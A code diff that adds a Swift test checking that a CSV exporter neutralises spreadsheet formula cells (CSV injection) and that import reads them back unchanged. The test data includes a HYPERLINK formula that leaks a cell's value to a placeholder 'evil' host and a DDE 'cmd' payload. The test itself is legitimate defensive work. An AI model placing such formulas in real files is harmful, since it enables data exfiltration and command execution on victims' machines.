@@ -36,6 +36,31 @@ import Testing
         }
     }
 
+    /// Cells a spreadsheet would run are written with a leading ' (OWASP),
+    /// and import reads them back exactly; --raw-csv / export_raw writes them as they came.
+    @Test func formulaCellsAreNeutralisedAndReadBackExactly() throws {
+        let values = ["=HYPERLINK(\"http://evil/\"&A1,\"x\")", "+573001234567", "-1", "@SUM(A1)", "\tTAB", "'quoted", "''twice", "'=kept", "plain", "O'Brien"]
+        var opts = values + [String](repeating: "", count: 12 - values.count)
+        opts = Array(opts.prefix(12))
+        let hostile = CustomerRecord(customerName: "=cmd|' /C calc'!A0", customerID: "F-1", opts: opts, tel1: "3001234567", campaignID: "101")
+        let text = String(decoding: RecordsCSV.data([hostile], bom: false), as: UTF8.self)
+        #expect(text.contains("'=cmd|' /C calc'!A0") && text.contains("'+573001234567") && text.contains("'@SUM(A1)"), "\(text)")
+        for line in text.split(separator: "\r\n").dropFirst() {
+            for cell in line.split(separator: ",", omittingEmptySubsequences: false) {
+                let c = cell.hasPrefix("\"") ? cell.dropFirst() : cell[...]
+                #expect(!(c.first.map { "=+-@\t\r".contains($0) } ?? false), "a cell a spreadsheet would run: \(cell)")
+            }
+        }
+        let back = try RecordCSV.load(try CSVTable.parse(text, name: "x.csv")).records[0]
+        #expect(back["customer_name"] == hostile.customerName)
+        for i in 0..<values.count where !values[i].hasPrefix("\t") {
+            #expect(back["opt\(i + 1)"] == values[i], "opt\(i + 1): \(back["opt\(i + 1)"])")
+        }
+        let raw = String(decoding: RecordsCSV.data([hostile], bom: false, raw: true), as: UTF8.self)
+        #expect(raw.contains(",=cmd|' /C calc'!A0,") || raw.contains("F-1,=cmd|"), "\(raw)")
+        #expect(SpreadsheetSafety.restore(SpreadsheetSafety.neutralise("'=x")) == "'=x")
+    }
+
     @Test func quotingFollowsRFC4180AndOnlyWhereNeeded() {
         var out: [UInt8] = []
         RecordsCSV.line(["plain", "a,b", "say \"hi\"", "two\nlines", " lead", "trail ", "山田", "\u{1B}"], into: &out)
